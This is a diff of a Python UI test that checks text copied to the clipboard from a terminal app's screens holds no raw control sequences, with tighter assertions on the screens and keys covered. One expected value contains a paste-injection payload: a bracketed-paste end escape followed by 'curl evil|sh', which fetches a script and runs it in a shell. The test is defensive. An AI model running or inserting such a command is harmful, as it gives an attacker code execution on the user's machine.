@@ -55,7 +55,8 @@ async def test_whatever_is_copied_holds_no_control(path, clock):
             for key in app.screen.copies():
                 await pilot.press("y", key)
                 copied[type(app.screen).__name__, key] = app.clipboard
-        assert len(copied) > 10
+        assert {screen for screen, _ in copied} == {"Overview", "EventsScreen"}
+        assert {"m", "j", "t"} <= {key for screen, key in copied if screen == "EventsScreen"}, copied.keys()
         assert not [key for key, text in copied.items() if raw(text)]
         assert "\\x1b[201~\ncurl evil|sh" in copied["EventsScreen", "m"]
 
